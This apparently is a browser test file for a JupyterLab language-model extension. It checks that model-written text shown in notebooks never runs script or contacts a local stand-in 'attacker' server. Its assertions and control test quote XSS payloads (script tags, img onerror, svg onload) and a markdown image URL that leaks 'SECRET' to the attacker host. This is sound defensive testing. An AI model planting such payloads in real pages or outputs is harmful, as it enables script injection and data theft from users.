"""Text an LM writes never runs script or loads anything in the user's browser.

A real JupyterLab (and Notebook 7) in headless Chromium. Every payload of ``tests/data/payloads.json``
rides in each place a run can put it: the answer, a step's code, what the step printed, a sub-call's
reply, the question, and an error. The paths covered: the stock kernel with ``%load_ext rlm_kernel``
(the widget, its static HTML and the answer output), the RLM Python kernel in notebook mode (step
cells, the answer cell, the runs panel), each again after saving and reopening, and Notebook 7.

Payloads that run set ``window.__rlm_pwned``; every remote address in them points at a stand-in
"attacker" server on 127.0.0.1 that logs each request. A check passes when the flag is unset and
the attacker saw nothing but a sentinel image requested after the page had rendered everything:
once the sentinel arrives, any request the page made earlier has arrived too.
"""

from __future__ import annotations

import json
import secrets
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pages import (
    STOCK_PYTHON,
    cells,
    open_notebook,
    repl,
    run_cell,
    runs_view,
    show_runs,
    wait_until,
    write_notebook,
)
from scripted_server import Reply, Script, ScriptedServer

CORPUS = json.loads((Path(__file__).parents[1] / "data" / "payloads.json").read_text())["payloads"]
GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")


class Attacker:
    """A server that answers every request with a 1x1 image and remembers the path."""

    def __init__(self) -> None:
        paths: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(GIF)

            do_POST = do_GET  # noqa: N815 - the name http.server calls

            def log_message(self, *args: Any) -> None:
                pass

        self.paths = paths
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    try:
        yield server
    finally:
        server.close()


def payload_text(attacker: Attacker) -> str:
    """Every payload, one paragraph each, as one document (and one answer) might hold them."""
    return "\n\n".join(text.replace("ATTACKER", attacker.url) for text in CORPUS.values())


def assert_clean(page: Any, attacker: Attacker, where: str) -> None:
    """No payload ran and the browser asked the attacker for nothing before a sentinel image."""
    sentinel = f"/sentinel-{secrets.token_hex(4)}"
    page.evaluate("(url) => { new Image().src = url; }", attacker.url + sentinel)
    wait_until(page, lambda: list(attacker.paths), lambda ps: sentinel in ps, f"the sentinel ({where})")
    leaks = [p for p in attacker.paths if not p.startswith("/sentinel-")]
    assert leaks == [], f"{where}: the browser fetched {leaks}"
    assert page.evaluate("() => window.__rlm_pwned ?? null") is None, f"{where}: a payload ran"


def script_for(document: str) -> Script:
    """The root LM: one step with every payload in its code, printing the document and a sub-call's
    reply (both full of payloads) and answering with the document; then an error full of them."""
    commented = "\n".join(f"# {line}" for line in document.splitlines())
    code = (
        f"{commented}\nprint(context)\nreply = llm_query('Summarize this.')\nprint(reply)\n"
        'answer["content"] = "Relayed: " + context\nanswer["ready"] = True'
    )
    return Script(
        root=[Reply(text=repl(document, code)), Reply(status=400, error_message=document)],
        sub=Reply(text=document),
    )


DOC_CELL = 'doc = open("payload.txt", encoding="utf-8").read()\nprint(len(doc), "characters")'
RUN_CELL = "%%rlm -c doc\nWhat does this say? {doc}"
ERROR_CELL = "%%rlm -c doc\nAnd once more?"


def save_and_reload(page: Any, lab: Any, name: str, attacker: Attacker) -> None:
    """Save (so the notebook is signed, and its outputs trusted when it opens again) and reopen."""
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
    attacker.paths.clear()
    page.goto("about:blank")
    open_notebook(page, lab, name, connected=False)


def test_the_checks_can_fail(page: Any, lab: Any, attacker: Attacker) -> None:
    """Control: a payload put into the page by hand sets the flag and reaches the attacker."""
    name = write_notebook(lab, "control.ipynb", "1 + 1", kernel=STOCK_PYTHON)
    open_notebook(page, lab, name, connected=False)
    attacker.paths.clear()
    page.evaluate(
        "(url) => { const d = document.createElement('div');"
        " d.innerHTML = `<img src='${url}/control' onload='window.__rlm_pwned = 1'>`;"
        " document.body.appendChild(d); }",
        attacker.url,
    )
    page.wait_for_function("() => window.__rlm_pwned === undefined ? false : true")
    with pytest.raises(AssertionError, match="fetched"):
        assert_clean(page, attacker, "control")


def test_stock_kernel_magics(page: Any, lab: Any, lm_server: ScriptedServer, attacker: Attacker) -> None:
    document = payload_text(attacker)
    (lab.root_dir / "payload.txt").write_text(document, encoding="utf-8")
    lm_server.responder = script_for(document)
    name = write_notebook(
        lab, "stock.ipynb", "%load_ext rlm_kernel", DOC_CELL, RUN_CELL, ERROR_CELL, kernel=STOCK_PYTHON
    )
    open_notebook(page, lab, name, connected=False)
    attacker.paths.clear()
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")

    view = wait_until(
        page,
        lambda: cells(page),
        lambda cs: "RLM · gpt-4o-mini · done" in cs[2]["output"] and "ended:" in cs[3]["output"],
        "both runs ended",
        timeout=90,
    )
    assert_clean(page, attacker, "stock kernel, after the runs")
    run, failed = view[2]["output"], view[3]["output"]
    # Everything is there, as text: the answer, the step's code and output, the sub-call's reply.
    assert "<script>window.__rlm_pwned='script'</script>" in run  # the answer, shown as its text
    assert "🖼 chart" in run and f"{attacker.url}/markdown-image?d=SECRET" in run  # an image as a link
    assert "# <svg onload=" in run  # the step's code
    assert "onerror=\"window.__rlm_pwned='img-onerror'\"" in failed  # the provider's error

    save_and_reload(page, lab, name, attacker)
    view = wait_until(
        page, lambda: cells(page), lambda cs: "1 sub-call(s)" in cs[2]["output"], "the saved outputs"
    )
    assert_clean(page, attacker, "stock kernel, reopened")
    assert "🖼 chart" in view[2]["output"]
    assert "<script>window.__rlm_pwned='script'</script>" in view[2]["output"]


def test_notebook_mode(page: Any, lab: Any, lm_server: ScriptedServer, attacker: Attacker) -> None:
    document = payload_text(attacker)
    (lab.root_dir / "payload.txt").write_text(document, encoding="utf-8")
    lm_server.responder = script_for(document)
    name = write_notebook(lab, "cells.ipynb", DOC_CELL, RUN_CELL, ERROR_CELL)
    open_notebook(page, lab, name)
    show_runs(page)
    attacker.paths.clear()
    run_cell(page, 0)
    run_cell(page, 1)
    view = wait_until(
        page,
        lambda: cells(page),
        lambda cs: len(cs) == 5 and cs[3]["markdown"].startswith("RLM answer"),
        "the step cell and the answer cell",
        timeout=60,
    )
    step, answer = view[2], view[3]
    assert step["source"].startswith("# <img src=x onerror=") and "<script>" in step["output"]
    assert "<script>window.__rlm_pwned='script'</script>" in answer["markdown"]
    assert "🖼 chart" in answer["markdown"]
    run_cell(page, 4)
    view = wait_until(
        page,
        lambda: cells(page),
        lambda cs: len(cs) == 6 and cs[5]["markdown"].startswith("RLM run ended without an answer"),
        "the error's answer cell",
        timeout=60,
    )
    assert "onerror=\"window.__rlm_pwned='img-onerror'\"" in view[5]["markdown"]
    panel = wait_until(
        page,
        lambda: runs_view(page),
        lambda v: sorted(r["status"] for r in v["runs"]) == ["done", "error"],
        "both runs in the panel",
    )
    assert all("<script>window.__rlm_pwned='script'</script>" in r["end"] for r in panel["runs"])
    assert_clean(page, attacker, "notebook mode, after the runs")

    save_and_reload(page, lab, name, attacker)
    show_runs(page)
    wait_until(
        page,
        lambda: runs_view(page),
        lambda v: len(v["runs"]) == 2 and all("saved" in r["pill"] for r in v["runs"]),
        "the runs restored from the saved notebook",
    )
    view = wait_until(
        page, lambda: cells(page), lambda cs: "🖼 chart" in cs[3]["markdown"], "the saved answer cell"
    )
    assert_clean(page, attacker, "notebook mode, reopened")


def test_notebook_7(page: Any, lab: Any, lm_server: ScriptedServer, attacker: Attacker) -> None:
    pytest.importorskip("notebook", reason="the Notebook 7 test needs the notebook package")
    document = payload_text(attacker)
    (lab.root_dir / "payload.txt").write_text(document, encoding="utf-8")
    lm_server.responder = script_for(document)
    name = write_notebook(lab, "nb7.ipynb", "%load_ext rlm_kernel", DOC_CELL, RUN_CELL, kernel=STOCK_PYTHON)
    page.goto(f"{lab.base}/notebooks/{name}?token={lab.token}")
    page.wait_for_function(
        "() => window.jupyterapp?.shell?.currentWidget?.sessionContext?.session?.kernel?.status === 'idle'",
        timeout=90_000,
    )
    attacker.paths.clear()
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    view = wait_until(
        page,
        lambda: cells(page),
        lambda cs: "RLM · gpt-4o-mini · done" in cs[2]["output"] and "🖼 chart" in cs[2]["output"],
        "the run's view and answer in Notebook 7",
        timeout=90,
    )
    assert "<script>window.__rlm_pwned='script'</script>" in view[2]["output"]
    assert_clean(page, attacker, "Notebook 7")
